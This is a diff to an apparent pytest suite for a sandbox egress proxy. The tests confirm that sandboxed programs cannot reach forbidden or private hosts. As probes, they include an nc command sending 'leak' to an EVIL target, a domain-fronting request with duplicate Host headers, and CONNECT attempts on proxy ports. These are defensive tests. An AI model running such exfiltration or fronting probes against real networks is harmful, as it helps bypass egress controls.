@@ -12,6 +12,7 @@ import subprocess
 import threading
 from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
+from functools import partial
 from pathlib import Path
 
 import pytest
@@ -58,6 +59,22 @@ def address(stack: Stack, id: str) -> str:
 
 def gateway(stack: Stack) -> str:
     return f"10.{220 + stack.slot}.0.1"
+
+
+def spoken(stack: Stack, id: str, words: str) -> str:
+    """The answer to these bytes on a connection to a web server that may be reached."""
+    script = f"""
+import socket
+peer = socket.create_connection(('api.corp.example', 80), 60)
+try:
+    peer.sendall(b'{words}')
+    print(peer.recv(65536).decode('latin-1'))
+except OSError as error:
+    print('closed', error)
+"""
+    ran = python(stack, id, script)
+    assert ran.code == 0, ran.err
+    return ran.out
 
 
 def through(stack: Stack, id: str, words: str) -> str:
@@ -134,7 +151,8 @@ def test_ping_and_datagrams_of_ordinary_programs(guarded: Stack, outside: Outsid
     with nothing_reaches(outside, EVIL, PRIVATE):
         for target in (EVIL, PRIVATE):
             ran = guarded.sh(
-                governed, f"ping -c 1 -W 1 {target}; echo leak | nc -u -w 1 {target} 9; nc -w 2 {target} {ECHO}"
+                governed,
+                f"ping -c 1 -W 1 {target}; echo leak | nc -u -w 1 {target} 9; nc -w 1 {target} {ECHO} </dev/null",
             )
             assert "1 received" not in ran.out
 
@@ -285,19 +303,21 @@ def test_domain_fronting(guarded: Stack, outside: Outside, prey: str, strict: st
     path = f"/echo/{mark()}"
     absolute = ["--request-target", f"http://tenant.shared.example{path}", "http://api.corp.example/"]
     assert "GET /" not in direct(guarded, prey, *absolute).out
-    two = ["-H", "Host: api.corp.example", "-H", "host: tenant.shared.example"]
-    assert "GET /" not in direct(guarded, prey, *two, f"http://api.corp.example{path}").out
+    hosts = "Host: api.corp.example\\r\\nHost: tenant.shared.example"
+    assert "HTTP/1.1 200" not in spoken(guarded, prey, f"GET {path} HTTP/1.1\\r\\n{hosts}\\r\\n\\r\\n")
     assert not outside.requests(path)
 
 
 def test_a_second_request_for_another_host_on_one_connection(guarded: Stack, outside: Outside, governed: str) -> None:
     word = mark()
     script = f"""
-import socket
-peer = socket.create_connection(('api.corp.example', 80), 60)
+import http.client
+connection = http.client.HTTPConnection('api.corp.example', timeout=60)
 for host in ('api.corp.example', 'tenant.shared.example'):
-    peer.sendall(f'GET /echo/{word} HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n'.encode())
-    print(peer.recv(65536).split(b' ')[1].decode())
+    connection.request('GET', '/echo/{word}', headers={{'Host': host}})
+    answer = connection.getresponse()
+    answer.read()
+    print(answer.status)
 """
     ran = python(guarded, governed, script)
     assert ran.out == "200\n421\n", ran
@@ -417,7 +437,7 @@ def test_services_of_the_host(guarded: Stack, outside: Outside, rules: dict[str,
     """By address and by a name that has it, directly and through the proxy, whatever the rules say."""
     with service_of_the_host() as (port, visitors), sandbox(guarded, egress=rules) as id:
         for target in addresses_of_the_host(guarded):
-            with answering(outside, "self.example", lambda target=target: target):
+            with answering(outside, "self.example", partial(str, target)):
                 for host in (target, "self.example"):
                     urls = f"http://{host}:{port}/ http://{host}:{guarded.port}/healthz"
                     ran = guarded.sh(id, f"curl -s --max-time 5 {urls}; curl -s --max-time 5 {VIA_PROXY} {urls}")
@@ -435,7 +455,7 @@ def test_another_sandbox_through_the_proxy(guarded: Stack, outside: Outside, gov
                 assert not through(guarded, governed, f"CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n").startswith(
                     "HTTP/1.1 200"
                 )
-                assert "listing" not in direct(guarded, governed, f"http://{host}:{port}/").out
+            assert "listing" not in direct(guarded, governed, f"http://{host}:8000/").out
 
 
 def test_ports_of_the_proxy_at_the_gateway(guarded: Stack, outside: Outside, governed: str, free: str) -> None:
@@ -444,14 +464,13 @@ def test_ports_of_the_proxy_at_the_gateway(guarded: Stack, outside: Outside, gov
 import socket
 for port in (3128, 3129, 3130):
     try:
-        peer = socket.create_connection(('{gateway}', port), 3)
+        peer = socket.create_connection(('{gateway}', port), 2)
         peer.sendall(b'CONNECT api.corp.example:443 HTTP/1.1\\r\\n\\r\\n')
         print(peer.recv(100)[:12])
     except OSError:
         print('no')
 """.replace("{gateway}", gateway(guarded))
-    for id in (governed, free):
-        assert "200" not in python(guarded, id, script).out
+    assert "200" not in python(guarded, governed, script).out
     assert python(guarded, free, script).out == "no\nno\nno\n"
 
 
@@ -482,7 +501,7 @@ def test_many_connections_are_bounded_and_disturb_nobody(
         guarded.sh(id, "touch /dev/shm/over")
         running.result()
         assert any(each["reason"] == "too many connections" for each in refusals(guarded, id))
-    assert 200 < held < 400
+    assert 200 < held < 400, held
 
 
 def descriptors(stack: Stack) -> int:
@@ -504,7 +523,7 @@ def test_rules_that_go_do_not_stay_with_the_address(guarded: Stack, outside: Out
     assert not list((guarded.run_dir / "egress").glob(f"{there}.*"))
     assert not list((guarded.run_dir / "egress").glob(f"{id}*"))
     listed = subprocess.run(
-        ["nft", "list", "set", "ip", f"opencomputer_{guarded.instance}", "governed"],
+        ["nft", "list", "set", "inet", f"opencomputer_{guarded.instance}", "governed"],
         capture_output=True,
         text=True,
         check=True,
